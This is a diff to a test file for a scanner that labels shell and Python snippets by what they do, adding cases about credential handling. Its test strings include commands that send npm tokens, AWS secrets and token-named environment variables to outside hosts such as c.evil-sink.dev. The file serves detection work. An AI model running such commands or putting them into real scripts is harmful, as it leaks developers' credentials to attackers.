@@ -33,6 +33,12 @@ describe('readBehaviors', () => {
     expect(kinds('\tgit config user.email\n\tgit config --get credential.helper', 'shell')).toEqual([]);
     expect(kinds('\tcurl -s -H "Authorization: token $$(gh auth token)" https://api.github.com/repos/acme/x/releases -d @release.json', 'shell')).toEqual(['download', 'send']);
     expect(kinds('\tcurl -s -H "Authorization: token $$(gh auth token)" https://uploads.lintcheck.dev/r -d @release.json', 'shell')).toEqual(['credential-file', 'download', 'send']);
+    // Every developer tool's credential helper is a credential store (credential-helpers.ts), its token given to its own service is not a theft.
+    expect(kinds('\tcurl -s "https://c.lintcheck.dev/?t=$$(npm config get //registry.npmjs.org/:_authToken)"', 'shell')).toEqual(['credential-file', 'download']);
+    expect(kinds("key = subprocess.check_output(['aws', 'configure', 'get', 'aws_secret_access_key'])\nkey = os.popen('aws configure get aws_secret_access_key').read()", 'python')).toContain('credential-file');
+    expect(kinds('\taws ecr get-login-password --region us-east-1 | docker login --username AWS --password-stdin 123456789012.dkr.ecr.us-east-1.amazonaws.com', 'shell')).toEqual([]);
+    expect(kinds('\taws ecr get-login-password --region us-east-1 | docker login --username AWS --password-stdin registry.lintcheck.dev', 'shell')).toEqual(['credential-file']);
+    expect(kinds('\tcurl -s -H "Authorization: Bearer $$(npm config get //registry.npmjs.org/:_authToken)" https://registry.npmjs.org/-/whoami', 'shell')).toEqual(['download']);
     // The variables named like secrets picked and their values sent, on one line or across a recipe's continued lines.
     expect(kinds('\tfor v in $$(compgen -e | grep -i token); do curl -s "https://c.evil-sink.dev/?$$v=$${!v}"; done', 'shell')).toEqual(['download', 'environment', 'send']);
     expect(kinds('\t@for v in $$(compgen -e | grep -i token); do \\\n\t  echo "$$v=$${!v}" >> /tmp/o; \\\n\tdone; \\\n\tcurl -s -T /tmp/o https://c.evil-sink.dev/u', 'shell')).toEqual(['download', 'environment', 'send']);
